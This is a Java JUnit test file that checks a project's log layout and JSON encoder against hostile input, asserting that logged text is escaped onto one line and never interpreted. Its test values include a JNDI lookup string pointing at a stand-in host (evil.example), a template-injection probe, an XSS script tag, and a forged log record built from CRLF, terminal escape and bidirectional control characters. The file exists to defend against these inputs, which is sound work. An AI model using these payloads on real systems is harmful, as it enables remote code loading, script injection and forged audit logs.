package dev.hwasil.bootstrap;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.hwasil.application.hostile.Tally;
import java.io.IOException;
import java.util.List;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.slf4j.event.KeyValuePair;

/** What a record looks like, whatever is in it. */
@DisplayName("hostile input, group E: log lines")
@ExtendWith(Tally.class)
final class LogLineTest {

    private static final String FORGED =
            "a\r\n2026-11-23T09:00:00.000Z ERROR Hwasil forged\n\tat x\u001b[2J\u009b31m\u2028b\u202ec";

    private static final LoggerContext CONTEXT = (LoggerContext) LoggerFactory.getILoggerFactory();

    private static LoggingEvent event(String message, @Nullable Throwable thrown) {
        var logger = CONTEXT.getLogger("dev.hwasil.some.Place");
        var event = new LoggingEvent("", logger, Level.WARN, message, thrown, null);
        event.setKeyValuePairs(List.of(new KeyValuePair("path", "/" + message)));
        return event;
    }

    private static String text(LoggingEvent event) {
        return new LogLine().doLayout(event);
    }

    private static String json(LoggingEvent event) {
        var encoder = new JsonLine();
        encoder.setContext(CONTEXT);
        encoder.start();
        return new String(encoder.encode(event), UTF_8);
    }

    @ParameterizedTest(name = "E14 {0}")
    @ValueSource(
            strings = {"${jndi:ldap://evil.example/a}", "{{7*7}}", "%msg %n %ex", "<script>alert(1)</script>", "{}"})
    void nothing_that_is_logged_is_looked_up(String message) throws IOException {
        assertThat(text(event(message, null)))
                .endsWith(" WARN  Place " + message + " path=/" + message + "\n")
                .startsWith("20");
        assertThat(new ObjectMapper()
                        .readTree(json(event(message, null)))
                        .at("/message")
                        .textValue())
                .isEqualTo(message);
    }

    @Test
    @DisplayName("E14 E16 a record of text is one line without control characters")
    void a_record_of_text_is_one_line() {
        var line = text(event(FORGED, null));

        assertThat(line.strip()).doesNotContainPattern("[\\p{Cc}\\u2028\\u202e]");
        assertThat(line).contains("a\\u000d\\u000a2026", "\\u001b[2J\\u009b31m\\u2028b\\u202ec", "path=/a\\u000d");
    }

    @Test
    @DisplayName("E16 what follows a record of text begins with a tab")
    void a_trace_cannot_be_taken_for_a_record() {
        var thrown = new IllegalStateException(FORGED, new IOException(FORGED));
        thrown.addSuppressed(new IOException(FORGED));

        var lines = text(event("request failed", thrown)).lines().toList();

        assertThat(lines.subList(1, lines.size())).hasSizeGreaterThan(4).allMatch(line -> line.startsWith("\t"));
        assertThat(lines).noneMatch(line -> line.startsWith("\tat x"));
        assertThat(lines)
                .anyMatch(line -> line.startsWith("\tjava.lang.IllegalStateException: a\\u000d\\u000a2026"))
                .anyMatch(line -> line.startsWith("\tCaused by: java.io.IOException: a\\u000d"))
                .anyMatch(line -> line.startsWith("\tSuppressed: java.io.IOException: a\\u000d"));
    }

    @Test
    @DisplayName("E16 a record of JSON is one line, and reads as it was")
    void a_record_of_json_is_one_line() throws IOException {
        var line = json(event(FORGED, new IllegalStateException(FORGED)));

        assertThat(line).endsWith("}\n");
        assertThat(line.strip()).doesNotContainPattern("[\\p{Cc}\\u2028\\u202e]");
        assertThat(new ObjectMapper().readTree(line).at("/message").textValue()).isEqualTo(FORGED);
    }
}
